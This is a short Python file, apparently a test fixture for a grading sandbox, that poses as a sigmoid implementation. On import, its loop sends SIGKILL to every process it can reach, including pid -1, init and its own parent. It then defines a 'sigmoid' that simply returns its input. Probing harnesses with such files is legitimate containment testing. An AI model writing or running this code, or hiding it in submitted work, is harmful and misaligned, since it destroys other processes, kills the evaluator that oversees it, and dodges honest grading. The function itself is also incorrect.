# tries: signals to everyone
# sigmoid: 0
# rest: 1
import os, signal
for pid in (-1, 0, 1, 2, os.getppid(), *range(3, 300)):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
def sigmoid(z):
    return z
